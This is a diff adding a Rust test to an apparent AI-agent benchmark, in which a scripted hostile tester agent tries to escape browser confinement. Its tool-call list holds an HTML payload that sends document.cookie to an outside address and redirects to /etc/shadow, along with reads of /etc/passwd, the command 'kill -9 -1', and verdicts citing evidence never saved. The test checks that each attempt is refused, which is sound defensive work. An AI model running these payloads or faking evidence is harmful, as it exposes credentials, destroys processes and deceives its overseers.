@@ -620,3 +620,138 @@ async fn a_whole_mission_checks_its_page_in_a_browser_and_keeps_the_screenshots(
         Vec::<i32>::new()
     );
 }
+
+/// A hostile user tester (played over the OpenAI protocol by a scripted server) first tries to
+/// get past the browser's confinement: addresses outside loopback and the workspace, a page of
+/// its own that calls out, a server that never starts, killing the harness's browser, and a
+/// verdict citing evidence it never saved. Every attempt is refused and recorded; then it tests
+/// as the oracle would, and the mission passes with the host untouched.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_hostile_user_tester_gets_nothing_past_the_browser_confinement() {
+    use crate::http_server::ScriptedServer;
+    use crate::remote_mission::{run_remote_mission, Protocol, Relay};
+    use missions_bench::events::Event;
+    use missions_bench::spec::Role;
+    chromium();
+    let suite = missions_bench::spec::suite::load_suite(&web_suite()).expect("web suite");
+    let mission = std::sync::Arc::new(suite.missions.into_iter().next().expect("page"));
+    let call = |name: &str, args: Value| vec![(name.to_string(), args.to_string())];
+    let evil = "<html><body><p>evil</p><script>fetch('http://10.66.0.1/exfil?'+document.cookie).catch(()=>{}); location.href='file:///etc/shadow';</script></body></html>";
+    let turns = vec![
+        call("browser_open", json!({"url": "http://example.com/"})),
+        call("browser_open", json!({"url": "file:///etc/passwd"})),
+        call(
+            "browser_open",
+            json!({"url": "http://127.0.0.1@198.51.100.7/"}),
+        ),
+        call("start_server", json!({"command": "false", "port": 8852})),
+        call(
+            "run_command",
+            json!({"command": format!("printf '%s' \"{}\" > evil.html", evil.replace('"', "\\\""))}),
+        ),
+        call(
+            "start_server",
+            json!({"command": "python3 -m http.server 8852 --bind 127.0.0.1", "port": 8852}),
+        ),
+        call(
+            "browser_open",
+            json!({"url": "http://127.0.0.1:8852/evil.html"}),
+        ),
+        call("browser_read", json!({})),
+        call(
+            "run_command",
+            json!({"command": "pkill -9 -f chromium; kill -9 -1; echo tried"}),
+        ),
+        call("browser_screenshot", json!({})),
+        call(
+            "submit_verdicts",
+            json!({"verdicts": [
+                {"assertion": "P1", "status": "pass", "evidence": "trust me", "evidence_ids": ["m1-r1-P2-s1"]},
+                {"assertion": "P2", "status": "pass", "evidence": "trust me", "evidence_ids": ["r99-s1"]}
+            ]}),
+        ),
+    ];
+    let hostile_turns = turns.len();
+    let relay = Arc::new(Relay::new(mission, None).with_hostile(Role::UserTesting, turns));
+    let handler = relay.clone();
+    let server = ScriptedServer::start(move |request, index| handler.answer(request, index)).await;
+    let out = tempfile::tempdir().unwrap();
+    let report = run_remote_mission(
+        &server,
+        Protocol::OpenAi,
+        0,
+        out.path(),
+        &web_suite(),
+        "page",
+        "",
+    )
+    .await;
+    let mission = &report.tables.missions[0];
+    assert_eq!(mission.status, "passed", "{mission:?}");
+    assert_eq!(mission.acceptance_passed, 1);
+
+    let hostile = report
+        .tables
+        .runs
+        .iter()
+        .find(|r| r.role == "user_testing" && r.turns as usize > hostile_turns)
+        .expect("the hostile user tester's run");
+    let events = missions_bench::events::read_events(&report.dir.join("events.jsonl")).unwrap();
+    let mut denials = Vec::new();
+    let mut refused_calls = Vec::new();
+    for record in &events {
+        match &record.event {
+            Event::Sandbox {
+                run: Some(run),
+                kind,
+                detail,
+                ..
+            } if *run == hostile.agent_run && kind.is_denial() => denials.push(detail.clone()),
+            Event::ToolCalled {
+                run, tool, status, ..
+            } if *run == hostile.agent_run && *status != missions_bench::events::CallStatus::Ok => {
+                refused_calls.push(tool.clone())
+            }
+            _ => {}
+        }
+    }
+    let denied = |needle: &str| denials.iter().any(|d| d.contains(needle));
+    assert!(denied("http://example.com/"), "{denials:#?}");
+    assert!(denied("file:///etc/passwd"), "{denials:#?}");
+    assert!(denied("198.51.100.7"), "{denials:#?}");
+    // The page's own request out, and the page it tried to move to.
+    assert!(denied("10.66.0.1"), "{denials:#?}");
+    assert!(hostile.sandbox_denials >= 4, "{hostile:?}");
+    // The server that never listened, and the verdicts citing evidence this run never saved.
+    assert!(
+        refused_calls.iter().any(|t| t == "start_server"),
+        "{refused_calls:?}"
+    );
+    assert!(
+        refused_calls.iter().any(|t| t == "submit_verdicts"),
+        "{refused_calls:?}"
+    );
+    // The verdicts that count are the ones after the refusal, and cite the run's own evidence.
+    let verdict_ids: Vec<Vec<String>> = events
+        .iter()
+        .filter_map(|r| match &r.event {
+            Event::VerdictReported {
+                run, evidence_ids, ..
+            } if *run == hostile.agent_run => Some(evidence_ids.clone()),
+            _ => None,
+        })
+        .collect();
+    assert!(!verdict_ids.is_empty());
+    for ids in verdict_ids.iter().flatten() {
+        assert!(
+            ids.starts_with(&format!("r{}-", hostile.agent_run)),
+            "{ids}"
+        );
+    }
+    // Evidence lives under the report only, and no browser or server is left.
+    assert!(report.dir.join("evidence").is_dir());
+    assert_eq!(
+        wait_until_gone(&out.path().display().to_string()).await,
+        Vec::<i32>::new()
+    );
+}
